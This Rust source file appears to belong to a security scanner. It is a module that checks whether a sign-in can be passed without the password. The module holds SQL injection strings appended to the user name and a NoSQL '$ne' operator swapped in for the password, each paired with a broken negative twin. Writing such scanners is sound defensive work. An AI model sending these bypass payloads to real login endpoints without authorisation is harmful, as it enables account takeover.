//! Whether a sign-in is passed by what stands in its fields, without the password (CWE-89, CWE-943, CWE-287).
//!
//! For the first identity that signs in with a password:
//! 1. Positive control: a wrong password begins no session.
//! 2. The identity's own name is followed by what ends an SQL condition before the password is asked for, with a wrong password.
//!    Only the identity's own account can be opened: nothing is true for all rows.
//! 3. Negative twin: the same with a broken keyword. It must begin no session.
//! 4. The password as an operator of a document store (`$ne`), with an operator that nobody knows as its twin.
//! 5. It is repeated. A session that begins is the proof.
//!
//! At most eight wrong passwords are sent where nothing is found.

use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, usable};
use crate::field::Field;
use crate::login::{Tried, Try, begins_session};
use crate::session::Session;
use crate::verdict::{Outcome, Proof, Verdict};
use crate::wire::{Answer, Request, WireError};

pub(super) struct LoginInjection;

const ID: &str = "login-injection";

impl Attack for LoginInjection {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Guess
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(run(field))
    }
}

/// What is put behind a name, and what is like it and broken.
const NAMES: &[(&str, &str)] = &[
    ("' OR '1'='2", "' XR '1'='2"),
    ("' -- ", "' ,, "),
    ("\" OR \"1\"=\"2", "\" XR \"1\"=\"2"),
    ("') -- ", "') ,, "),
    ("\" -- ", "\" ,, "),
];

struct Door<'a> {
    field: &'a Field,
    who: usize,
    wrong: String,
}

impl Door<'_> {
    async fn knock(&self, name: &str) -> Result<Option<Tried>, WireError> {
        let one = Try { user: name, password: &self.wrong, code: "", before: Session::default() };
        self.field.attempt(self.who, &one).await
    }

    /// The request of a wrong password with an operator in place of it.
    async fn operator(
        &self,
        request: &Request,
        operator: &str,
    ) -> Result<Option<(Request, Answer)>, WireError> {
        let body = String::from_utf8_lossy(&request.body).into_owned();
        let wrong = &self.wrong;
        let json = format!("\"{wrong}\"");
        let changed = if body.contains(&json) {
            body.replace(&json, &format!("{{\"{operator}\":{json}}}"))
        } else {
            body.replace(&format!("={wrong}"), &format!("[{operator}]={wrong}"))
        };
        if changed == body {
            return Ok(None);
        }
        let request = Request { body: changed.into_bytes(), ..request.clone() }.without("content-length");
        Ok(usable(self.field.wire.send(&request).await)?.map(|answer| (request, answer)))
    }

    fn is_open(&self, request: &Request, answer: &Answer) -> bool {
        let way = self.field.person(self.who).way.as_ref();
        way.is_some_and(|way| begins_session(request, answer, way))
    }
}

async fn run(field: &Field) -> Result<(), WireError> {
    let Some(who) = field.people.iter().position(|person| person.way.is_some()) else {
        field.not_tested(ID, "it takes an identity that signs in with a password; hint: `[[identities]]`");
        return Ok(());
    };
    let user = field.person(who).user.clone();
    let door = Door { field, who, wrong: format!("{}-Wrong-7", field.canary()) };
    let Some(control) = door.knock(&user).await? else {
        field.not_tested(ID, "the sign-in could not be tried again");
        return Ok(());
    };
    let operation = format!(
        "{} {}",
        control.request.method,
        control.request.target.split('?').next().unwrap_or_default()
    );
    if control.session.is_ok() {
        let says = "a wrong password begins a session too, as far as can be told";
        field.say(Outcome::new(ID, &operation, Verdict::Inconclusive, says));
        return Ok(());
    }
    let found = |aspect: &str, text: &str, attack: (&Request, &Answer), twin: (&Request, &Answer)| {
        let says = format!("`{user}` is signed in without the password, by `{text}`");
        let proof = Proof::new(
            field.evidence(0, attack.0, attack.1),
            format!(
                "a session begins; with the wrong password alone the answer is {}",
                control.answer.status
            ),
        )
        .twin(field.evidence(0, twin.0, twin.1))
        .shown(field.evidence(0, &control.request, &control.answer));
        field.say(Outcome::new(ID, &operation, Verdict::Proven, says).aspect(aspect).proof(proof));
    };
    for (behind, broken) in NAMES {
        let name = format!("{user}{behind}");
        let Some(attack) = door.knock(&name).await?.filter(|tried| tried.session.is_ok()) else { continue };
        let Some(twin) = door.knock(&format!("{user}{broken}")).await? else { continue };
        let Some(again) = door.knock(&name).await? else { continue };
        if twin.session.is_ok() || again.session.is_err() {
            continue;
        }
        found("", &name, (&attack.request, &attack.answer), (&twin.request, &twin.answer));
        return Ok(());
    }
    if let Some((request, answer)) = door.operator(&control.request, "$ne").await?
        && door.is_open(&request, &answer)
        && let Some((twin, refused)) = door.operator(&control.request, "$xe").await?
        && !door.is_open(&twin, &refused)
    {
        found("operator", "$ne", (&request, &answer), (&twin, &refused));
        return Ok(());
    }
    field.say(Outcome::new(ID, &operation, Verdict::Passed, "no session began without the password"));
    Ok(())
}
